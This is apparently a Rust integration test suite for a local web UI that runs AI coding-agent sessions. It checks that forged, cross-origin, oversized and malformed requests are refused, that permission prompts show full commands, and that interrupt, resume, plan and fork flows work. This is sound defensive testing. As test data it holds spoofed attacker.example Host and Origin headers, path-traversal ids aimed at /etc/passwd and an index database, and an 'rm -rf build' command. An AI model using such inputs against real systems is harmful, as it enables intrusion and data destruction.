/// events, the user's repository (HEAD, branches, working tree) and what the model was asked.
async fn world(ui: &Ui, ids: &[&str]) -> Value {
    let sessions: Value = ui.get("/api/sessions?all=true").await.json().await.unwrap();
    let layout = aside_store::Layout::new(ui.root.join("aside-home"));
    let events: Vec<u64> = ids
        .iter()
        .map(|id| {
            aside_store::EventLog::open(&layout, &aside_core::SessionId(id.to_string()))
                .unwrap()
                .last_seq()
                .unwrap()
        })
        .collect();
    json!({
        "sessions": sessions,
        "events": events,
        "repo": files(&ui.repo),
        "model_requests": ui.model.received().len(),
    })
}

#[tokio::test]
async fn hostile_requests_are_refused_and_change_nothing() {
    let ui = Ui::start();
    // `done`: finished, with a change to apply or merge, archived, its host stopped: every write
    // on it (prompt, resume, apply, merge, unarchive, remove) would show.
    ui.model.push_for(
        "battery-done",
        [
            Reply::tool(
                "write_file",
                json!({"path": "NOTES.md", "content": "from the agent\n"}),
            ),
            Reply::text("Wrote NOTES.md."),
        ],
    );
    // `asking`: waiting on the user to allow a command (cancel, stop, approve, deny, archive).
    ui.model.push_for(
        "battery-ask",
        [Reply::tool("run_command", json!({"command": "echo hi"}))],
    );
    let done = create(
        &ui,
        json!({"task": "battery-done: write notes", "repo": ui.repo}),
    )
    .await;
    let asking = create(
        &ui,
        json!({"task": "battery-ask: run something", "repo": ui.repo, "approve": "ask"}),
    )
    .await;
    ui.wait_status(&done, "completed").await;
    let r: Value = ui
        .post(&format!("/api/sessions/{done}/stop"), json!({}))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(r, json!({"stopped": true}));
    assert_eq!(
        ui.post(&format!("/api/sessions/{done}/archive"), json!({}))
            .await
            .status(),
        200
    );
    ui.wait_status(&asking, "needs_input").await;
    let s = ui.session(&done).await;
    assert_eq!(
        (&s["host"], &s["archived"], &s["changed_files"]),
        (&json!(false), &json!(true), &json!(1))
    );
    assert_eq!(ui.session(&asking).await["host"], true);

    let before = world(&ui, &[&done, &asking]).await;
    let port = ui.base.rsplit(':').next().unwrap().to_string();
    let huge = "x".repeat(2 * 1024 * 1024 + 1);
    // Each write, aimed where it would show, with a body that would matter.
    let writes: Vec<(&str, String, Value)> = vec![
        (
            "create",
            "/api/sessions".into(),
            json!({"task": "battery-evil: delete everything", "repo": ui.repo}),
        ),
        (
            "prompt",
            format!("/api/sessions/{done}/prompt"),
            json!({"text": "delete everything"}),
        ),
        (
            "cancel",
            format!("/api/sessions/{asking}/cancel"),
            json!({}),
        ),
        ("stop", format!("/api/sessions/{asking}/stop"), json!({})),
        ("resume", format!("/api/sessions/{done}/resume"), json!({})),
        (
            "approve",
            format!("/api/sessions/{asking}/approve"),
            json!({"always": true}),
        ),
        ("deny", format!("/api/sessions/{asking}/deny"), json!({})),
        ("apply", format!("/api/sessions/{done}/apply"), json!({})),
        (
            "merge",
            format!("/api/sessions/{done}/merge"),
            json!({"squash": true}),
        ),
        (
            "archive",
            format!("/api/sessions/{asking}/archive"),
            json!({}),
        ),
        (
            "unarchive",
            format!("/api/sessions/{done}/unarchive"),
            json!({}),
        ),
        (
            "remove",
            format!("/api/sessions/{done}/remove"),
            json!({"force": true}),
        ),
        (
            "fork",
            format!("/api/sessions/{done}/fork"),
            json!({"text": "delete everything"}),
        ),
        (
            "start",
            format!("/api/sessions/{done}/start"),
            json!({"text": "delete everything"}),
        ),
    ];
    const NO_TOKEN: &str =
        "unauthorized: open the URL that `aside ui` printed (it carries the access token), or send it as `Authorization: Bearer TOKEN`";
    const WRONG_URL_TOKEN: &str = "unauthorized: wrong token; open the URL that `aside ui` printed";
    const HOST: &str = "forbidden: unexpected Host header";
    const CROSS: &str = "forbidden: cross-origin request";
    // What comes back: the guard's plain text, or the API's {"error": …}.
    enum Says {
        Text(&'static str),
        Error(String),
    }
    let c = ui.client();
    let wrong = format!("{}0", &ui.token[..ui.token.len() - 1]);
    let wrong = if wrong == ui.token {
        format!("{}1", &ui.token[..ui.token.len() - 1])
    } else {
        wrong
    };
    for (action, path, body) in &writes {
        let url = format!("{}{path}", ui.base);
        let post = || c.post(&url);
        let ours = || post().bearer_auth(&ui.token).header("origin", &ui.base);
        let is_create = *action == "create";
        let oversized = if is_create {
            json!({"task": huge, "repo": ui.repo})
        } else {
            json!({"text": huge})
        };
        let wrong_types = if is_create {
            r#"{"task":5,"repo":true}"#
        } else {
            r#"{"text":5,"always":"yes"}"#
        };
        let mut cases: Vec<(&str, reqwest::RequestBuilder, u16, Says)> = vec![
            (
                "no token",
                post().header("origin", &ui.base).json(body),
                401,
                Says::Text(NO_TOKEN),
            ),
            (
                // A cookie is no credential: browsers send cookies to every server on
                // 127.0.0.1, so one could be replayed by any of them.
                "the right token in a cookie",
                post()
                    .header("cookie", format!("aside_token={}", ui.token))
                    .header("origin", &ui.base)
                    .json(body),
                401,
                Says::Text(NO_TOKEN),
            ),
            (
                "a wrong bearer token",
                post().bearer_auth(&wrong).json(body),
                401,
                Says::Text(NO_TOKEN),
            ),
            (
                "a wrong token in the URL",
                c.post(format!("{url}?token={wrong}"))
                    .bearer_auth(&ui.token)
                    .header("origin", &ui.base)
                    .json(body),
                401,
                Says::Text(WRONG_URL_TOKEN),
            ),
            (
                "a foreign Host",
                ours()
                    .header("host", format!("attacker.example:{port}"))
                    .json(body),
                403,
                Says::Text(HOST),
            ),
            (
                "a look-alike Origin",
                post()
                    .bearer_auth(&ui.token)
                    .header("origin", format!("{}.attacker.example", ui.base))
                    .json(body),
                403,
                Says::Text(CROSS),
            ),
            (
                "Origin null (a sandboxed frame)",
                post()
                    .bearer_auth(&ui.token)
                    .header("origin", "null")
                    .json(body),
                403,
                Says::Text(CROSS),
            ),
            (
                "a foreign Origin with the bearer token",
                post()
                    .bearer_auth(&ui.token)
                    .header("origin", "http://attacker.example")
                    .json(body),
                403,
                Says::Text(CROSS),
            ),
            (
                "a body over 1 MiB",
                ours().json(&oversized),
                413,
                Says::Error("the request body is too large: the limit is 1 MiB".into()),
            ),
            (
                "malformed JSON",
                ours()
                    .header("content-type", "application/json")
                    .body(r#"{"text": "hi""#),
                400,
                Says::Error(
                    "the request body is not valid JSON: EOF while parsing an object at line 1 column 13"
                        .into(),
                ),
            ),
            (
                "JSON of the wrong types",
                ours()
                    .header("content-type", "application/json")
                    .body(wrong_types),
                422,
                Says::Error(
                    "the request body has the wrong shape: invalid type: integer `5`, expected a string at line 1 column 9"
                        .into(),
                ),
            ),
            (
                // What a cross-site <form enctype=text/plain> sends.
                "a text/plain body",
                ours()
                    .header("content-type", "text/plain")
                    .body(body.to_string()),
                415,
                Says::Error(
                    "the request body must be JSON, sent with Content-Type: application/json"
                        .into(),
                ),
            ),
            (
                "a JSON body without a Content-Type",
                ours().body(body.to_string()),
                415,
                Says::Error(
                    "the request body must be JSON, sent with Content-Type: application/json"
                        .into(),
                ),
            ),
        ];
        if !is_create {
            // A link or an <img> can only GET (`GET /api/sessions` is the list).
            cases.push((
                "a GET with the token",
                c.get(&url).bearer_auth(&ui.token),
                405,
                Says::Text(""),
            ));
        }
        for (case, request, status, says) in cases {
            let what = format!("{action} with {case}");
            let r = request
                .send()
                .await
                .unwrap_or_else(|e| panic!("{what}: {e}"));
            assert_eq!(r.status().as_u16(), status, "{what}");
            let text = r.text().await.unwrap();
            match says {
                Says::Text(expected) => assert_eq!(text, expected, "{what}"),
                Says::Error(expected) => {
                    let body: Value = serde_json::from_str(&text)
                        .unwrap_or_else(|_| panic!("{what}: not JSON: {text}"));
                    assert_eq!(body, json!({ "error": expected }), "{what}");
                }
            }
            assert_unchanged(&before, &world(&ui, &[&done, &asking]).await, &what);
        }
        // A body declared far over the limit is refused before it is read.
        let answer = raw_http(
            &ui,
            &format!(
                "POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAuthorization: Bearer {}\r\nOrigin: {}\r\nContent-Type: application/json\r\nContent-Length: 104857600\r\n\r\n",
                ui.token,
                ui.base
            ),
        );
        assert!(
            answer.starts_with("HTTP/1.1 413 Payload Too Large\r\n")
                && answer.contains("\r\nconnection: close\r\n")
                && answer.ends_with(
                    "\r\n\r\n{\"error\":\"the request body is too large: the limit is 1 MiB\"}"
                ),
            "{action} with 100 MB declared: {answer}"
        );
        assert_unchanged(&before, &world(&ui, &[&done, &asking]).await, action);
        // The right request at a path-traversal-looking id, or at an absolute path, finds no
        // session.
        if !is_create {
            let name = path.rsplit('/').next().unwrap();
            for id in [
                "..%2F..",
                "..%2F..%2Findex.db",
                "%2Fetc%2Fpasswd",
                "..",
                ".",
            ] {
                let r = c
                    .post(format!("{}/api/sessions/{id}/{name}", ui.base))
                    .bearer_auth(&ui.token)
                    .header("origin", &ui.base)
                    .json(body)
                    .send()
                    .await
                    .unwrap();
                let what = format!("{action} at {id}");
                let status = r.status().as_u16();
                let text = r.text().await.unwrap();
                assert!(status == 404 || status == 405, "{what}: {status} {text}");
                if id.contains("%2F") {
                    let decoded = id.replace("%2F", "/");
                    assert_eq!(status, 404, "{what}");
                    assert_eq!(
                        serde_json::from_str::<Value>(&text).unwrap(),
                        json!({"error": format!("no session matches `{decoded}`; `aside ls --all` lists them")}),
                        "{what}"
                    );
                }
                assert_unchanged(&before, &world(&ui, &[&done, &asking]).await, &what);
            }
        }
    }
    // An action the API does not have, on a real session; and the read-only paths, written to.
    let actions =
        "prompt, cancel, stop, resume, approve, deny, apply, merge, archive, unarchive, remove, start, fork, adopt, open";
    for (name, status, error) in [
        (
            "frobnicate",
            400,
            Some(format!("unknown action `frobnicate`: use one of {actions}")),
        ),
        (
            "Remove",
            400,
            Some(format!("unknown action `Remove`: use one of {actions}")),
        ),
        ("events", 405, None),
        ("diff", 405, None),
    ] {
        let r = ui
            .post(
                &format!("/api/sessions/{done}/{name}"),
                json!({"force": true}),
            )
            .await;
        assert_eq!(r.status().as_u16(), status, "{name}");
        if let Some(error) = error {
            assert_eq!(
                r.json::<Value>().await.unwrap(),
                json!({ "error": error }),
                "{name}"
            );
        }
        assert_unchanged(&before, &world(&ui, &[&done, &asking]).await, name);
    }
    // The same writes, sent properly, do act (so the checks above would have seen it).
    assert_eq!(
        ui.post(&format!("/api/sessions/{asking}/archive"), json!({}))
            .await
            .status(),
        200
    );
    let after = world(&ui, &[&done, &asking]).await;
    assert_ne!(after["sessions"], before["sessions"]);
    assert_eq!(
        ui.post(&format!("/api/sessions/{asking}/deny"), json!({}))
            .await
            .status(),
        200
    );
    let after = world(&ui, &[&done, &asking]).await;
    assert_ne!(after["events"], before["events"]);
    assert_eq!(
        ui.post(&format!("/api/sessions/{done}/apply"), json!({}))
            .await
            .status(),
        200
    );
    let after = world(&ui, &[&done, &asking]).await;
    assert_ne!(after["repo"], before["repo"]);
}

/// Whether the element with this id is on screen (not hidden, by attribute or by style).
const SHOWN: &str = "const shown = (id) => { const e = document.getElementById(id); return !!e && !e.hidden && getComputedStyle(e).display !== 'none' && e.getClientRects().length > 0; };";

#[tokio::test]
async fn in_a_real_browser_a_dead_host_shows_interrupted_and_resume_and_stop_work() {
    if !browser::available() {
        eprintln!("skipped: Debian's chromium and chromium-driver are not installed (.ci/run installs them)");
        return;
    }
    let ui = Ui::start();
    ui.model.push_for(
        "die-task",
        [
            Reply::stream(vec![Chunk::Text("Working on it".into()), Chunk::Hang]),
            Reply::text("Finished after resume."),
            Reply::stream(vec![Chunk::Text("Still going".into()), Chunk::Hang]),
        ],
    );
    let id = create(
        &ui,
        json!({"task": "die-task: a long job", "repo": ui.repo}),
    )
    .await;
    let b = Browser::start().await;
    b.goto(&ui.url).await;
    b.goto(&format!("{}/s/{id}", ui.base)).await;
    let buttons = format!(
        "{SHOWN} return [document.querySelector('#status').textContent, shown('act-cancel'), shown('act-stop'), shown('act-resume')]"
    );
    b.wait(
        "the first words of a running turn",
        &format!("{SHOWN} return [...document.querySelectorAll('.msg.agent')].some(m => m.textContent.includes('Working on it')) && document.querySelector('#status').textContent === 'running' && shown('act-stop')"),
    )
    .await;
    assert_eq!(
        b.eval(&buttons, json!([])).await,
        json!(["running", true, true, false]),
        "a running session can be cancelled or stopped, not resumed"
    );

    // The host dies: the page says so within moments, without a reload.
    kill_9(host_pid(&id).expect("the session's host"));
    b.wait_within(
        Duration::from_secs(3),
        "the interrupted status",
        &format!("{SHOWN} return document.querySelector('#status').textContent === 'interrupted' && !shown('act-cancel') && shown('act-resume')"),
    )
    .await;
    assert_eq!(
        b.eval(&buttons, json!([])).await,
        json!(["interrupted", false, false, true]),
        "a session without a host can only be resumed"
    );
    shot(&b, "08-interrupted").await;

    // Resume picks the turn up again.
    b.click("#act-resume").await;
    b.wait(
        "the continuation",
        "return [...document.querySelectorAll('.msg.agent')].some(m => m.textContent.includes('Finished after resume.')) && document.querySelector('#status').textContent === 'completed'",
    )
    .await;
    assert_eq!(
        b.eval(
            "return [...document.querySelectorAll('.msg.agent')].filter(m => m.textContent.includes('Working on it')).length",
            json!([])
        )
        .await,
        1,
        "the first words once"
    );
    let s = ui.session(&id).await;
    assert_eq!(s["status"], "completed");

    // Stop releases a live session: a follow-up starts a turn, Stop ends it, nothing is lost.
    b.type_into("#follow-text", "die-task: keep going").await;
    b.click("#follow-up button[type=submit]").await;
    b.wait(
        "the follow-up's turn",
        &format!("{SHOWN} return [...document.querySelectorAll('.msg.agent')].some(m => m.textContent.includes('Still going')) && document.querySelector('#status').textContent === 'running' && shown('act-stop')"),
    )
    .await;
    assert_eq!(ui.session(&id).await["host"], true);
    b.click("#act-stop").await;
    b.wait(
        "the stopped session",
        &format!("{SHOWN} return document.querySelector('#status').textContent === 'interrupted' && !shown('act-stop') && shown('act-resume') && document.querySelector('#action-result').textContent.startsWith('Stopped')"),
    )
    .await;
    let s = ui.session(&id).await;
    assert_eq!(
        (&s["status"], &s["host"]),
        (&json!("interrupted"), &json!(false))
    );
    assert_eq!(host_pid(&id), None, "no host process is left");
}

#[tokio::test]
async fn in_a_real_browser_a_permission_request_shows_the_whole_command() {
    if !browser::available() {
        eprintln!("skipped: Debian's chromium and chromium-driver are not installed (.ci/run installs them)");
        return;
    }
    let ui = Ui::start();
    let tail = "and-a-long-argument-".repeat(12);
    let command = format!("echo hi > ran.txt && rm -rf build && echo {tail}");
    ui.model.push_for(
        "cmd-task",
        [
            Reply::tool("run_command", json!({ "command": command })),
            Reply::text("Understood, I did not run it."),
        ],
    );
    let id = create(
        &ui,
        json!({"task": "cmd-task: clean up", "repo": ui.repo, "approve": "ask"}),
    )
    .await;
    let b = Browser::start().await;
    b.goto(&ui.url).await;
    b.goto(&format!("{}/s/{id}", ui.base)).await;
    let shown = b
        .wait(
            "the command in the permission card",
            "const c = document.querySelector('.permission .detail pre.command'); return c && c.textContent",
        )
        .await;
    assert_eq!(shown, format!("$ {command}"));
    assert_eq!(
        b.eval(
            "return document.querySelector('.permission .q').textContent",
            json!([])
        )
        .await,
        format!("The agent asks: Run {command} [execute]")
    );
    // All of it on screen: wrapped, not cut off.
    assert_eq!(
        b.eval(
            "const c = document.querySelector('.permission pre.command'); const r = c.getBoundingClientRect(); return c.scrollWidth <= c.clientWidth && r.width > 0 && r.right <= window.innerWidth",
            json!([])
        )
        .await,
        true
    );
    shot(&b, "09-permission-command").await;
    b.click(".permission .opts button[data-kind=reject_once]")
        .await;
    b.wait(
        "the end of the turn",
        "return document.querySelector('#status').textContent === 'completed' && document.querySelector('.permission.answered')",
    )
    .await;
    let worktree = ui.session(&id).await["worktree"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        !Path::new(&worktree).join("ran.txt").exists(),
        "a rejected command does not run"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn plan_first_and_continue_in_a_new_session() {
    let ui = Ui::start();
    ui.model.push_for(
        "webplan-task",
        [
            Reply::text("1. Read the README\n2. Add a usage section"),
            Reply::text("Done with the edited plan."),
            Reply::text("Forked and continued."),
        ],
    );
    // The API: a plan session, its plan, Start with an edited plan.
    let r = ui
        .post(
            "/api/sessions",
            json!({"task": "webplan-task: document usage", "repo": ui.repo, "plan": true}),
        )
        .await;
    assert_eq!(r.status(), 200);
    let plan_id = r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let s = ui.wait_status(&plan_id, "completed").await;
    assert_eq!(s["kind"], "plan");
    assert_eq!(s["title"], "Plan: webplan-task: document usage");
    let shown = ui
        .get(&format!("/api/sessions/{plan_id}"))
        .await
        .json::<Value>()
        .await
        .unwrap();
    assert_eq!(shown["plan"], "1. Read the README\n2. Add a usage section");
    let received = ui.model.received();
    let offered = received[0].body["tools"].to_string();
    assert!(
        !offered.contains("write_file") && offered.contains("read_file"),
        "planning is read-only: {offered}"
    );
    let r = ui
        .post(
            &format!("/api/sessions/{plan_id}/start"),
            json!({"text": "1. Only the README, with an example"}),
        )
        .await;
    assert_eq!(r.status(), 200);
    let task_id = r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let done = ui.wait_status(&task_id, "completed").await;
    assert_eq!(done["kind"], "task");
    assert_eq!(done["title"], "webplan-task: document usage");
    let working = ui.model.received()[1].body.to_string();
    assert!(
        working.contains("1. Only the README, with an example")
            && !working.contains("Add a usage section"),
        "the edited plan was sent: {working}"
    );
    assert_eq!(ui.session(&plan_id).await["archived"], true);
    // Start is refused on a session that is not a plan.
    let r = ui
        .post(&format!("/api/sessions/{task_id}/start"), json!({}))
        .await;
    assert_eq!(r.status(), 409);
    assert_eq!(
        r.json::<Value>().await.unwrap()["error"],
        format!("session {task_id} is not a plan; start a plan with aside plan \"<task>\" or \"Plan first\"")
    );
    // Continue in a new session: the conversation carries over, then the new instruction.
    let r = ui
        .post(
            &format!("/api/sessions/{task_id}/fork"),
            json!({"text": "now add tests"}),
        )
        .await;
    assert_eq!(r.status(), 200);
    let fork = r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let forked = ui.wait_status(&fork, "completed").await;
    assert_eq!(forked["title"], "now add tests");
    // The built-in agent goes on with its own copy of the conversation.
    let first = ui.model.received()[2].body.clone();
    let messages = first["messages"].as_array().unwrap();
    assert!(
        messages
            .iter()
            .any(|m| m["role"] == "assistant" && m["content"] == "Done with the edited plan.")
            && messages.last().unwrap()["content"]
                .as_str()
                .unwrap()
                .ends_with("\n\nnow add tests"),
        "{first}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn in_a_real_browser_plan_first_then_start() {
    if !browser::available() {
        eprintln!("skipped: Debian's chromium and chromium-driver are not installed (.ci/run installs them)");
        return;
    }
    let ui = Ui::start();
    ui.model.push_for(
        "browserplan-task",
        [
            Reply::text("1. Look around\n2. Write NOTES.md"),
            Reply::text("Carried out the plan."),
        ],
    );
    let b = Browser::start().await;
    b.goto(&ui.url).await;
    b.wait(
        "the list page",
        "return document.body.dataset.ready === '1'",
    )
    .await;
    b.click("#new-toggle").await;
    b.wait(
        "the repositories",
        "return document.querySelector('#new-agent').options.length > 0",
    )
    .await;
    b.type_into("#new-task", "browserplan-task: write notes")
        .await;
    b.type_into("#new-repo", ui.repo.to_str().unwrap()).await;
    b.click("#new-plan").await;
    b.click("#new-submit").await;
    b.wait("the plan", "const p = document.querySelector('#plan-panel'); return !!p && !p.hidden && document.querySelector('#plan-text').value.includes('2. Write NOTES.md')").await;
    let planning = b.eval("return location.pathname", json!([])).await;
    shot(&b, "20-plan-ready").await;
    b.click("#plan-start").await;
    b.wait(
        "the task's own page",
        &format!("return location.pathname.startsWith('/s/') && location.pathname !== {planning} && !!document.querySelector('#status')"),
    )
    .await;
    b.wait(
        "the task done",
        "const s = document.querySelector('#status'); return !!s && s.textContent === 'completed'",
    )
    .await;
    // The status comes from the API, the conversation from the event stream: wait for both.
    b.wait(
        "the task's answer on the page",
        "return document.querySelector('#conversation').textContent.includes('Carried out the plan.')",
    )
    .await;
}

/// A long session opens at its end: the page streams its last turns (about 1,000 events) and
/// offers the earlier ones, a window at a time; the API never hands out more than a window.
#[tokio::test]
async fn in_a_real_browser_a_long_session_opens_at_its_end() {
    if !browser::available() {
        eprintln!("skipped: Debian's chromium and chromium-driver are not installed (.ci/run installs them)");
        return;
    }
    let ui = Ui::start();
    ui.model
        .push_for("long-task", [Reply::text("First answer.")]);
    let id = create(&ui, json!({"task": "long-task: start", "repo": ui.repo})).await;
    ui.wait_status(&id, "completed").await;
    ui.post(&format!("/api/sessions/{id}/stop"), json!({}))
        .await;
    // 1,500 more turns of 3 events each, written as the host writes them.
    let last = crate::common::append_old_turns(&ui.root.join("aside-home"), &id, 1500);
    let window: Value = ui
        .get(&format!(
            "/api/sessions/{id}/earlier?before={}&limit=100000",
            last + 1
        ))
        .await
        .json()
        .await
        .unwrap();
    assert!(window["events"].as_array().unwrap().len() <= 5000);
    let first: Value = ui
        .get(&format!("/api/sessions/{id}/earlier?before=4"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(first["start"], 0);
    assert_eq!(first["events"].as_array().unwrap().len(), 3);

    let b = Browser::start().await;
    b.goto(&ui.url).await;
    b.goto(&format!("{}/s/{id}", ui.base)).await;
    b.wait(
        "the last turn",
        "return document.querySelector('#conversation').textContent.includes('old turn 1499.')",
    )
    .await;
    let has = |text: &str| {
        format!("return document.querySelector('#conversation').textContent.includes('{text}')")
    };
    assert_eq!(b.eval(&has("old turn 1000."), json!([])).await, false);
    assert_eq!(b.eval(&has("long-task: start"), json!([])).await, false);
    let button = b
        .wait(
            "the earlier button",
            "const e = document.querySelector('#earlier'); return e && !e.hidden && e.textContent",
        )
        .await;
    assert!(
        button.as_str().unwrap().starts_with("Show earlier events"),
        "{button}"
    );
    b.eval("document.querySelector('#earlier').click()", json!([]))
        .await;
    b.wait("an earlier window", &has("old turn 1000.")).await;
    // Earlier turns come above the later ones.
    let order = b
        .eval(
            "const t = document.querySelector('#conversation').textContent; return t.indexOf('old turn 1000.') < t.indexOf('old turn 1499.')",
            json!([]),
        )
        .await;
    assert_eq!(order, true);
    // Until the first.
    for _ in 0..10 {
        let done = b
            .eval(
                "return document.querySelector('#earlier').hidden",
                json!([]),
            )
            .await;
        if done == true {
            break;
        }
        b.eval("document.querySelector('#earlier').click()", json!([]))
            .await;
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    b.wait("the first turn", &has("long-task: start")).await;
}
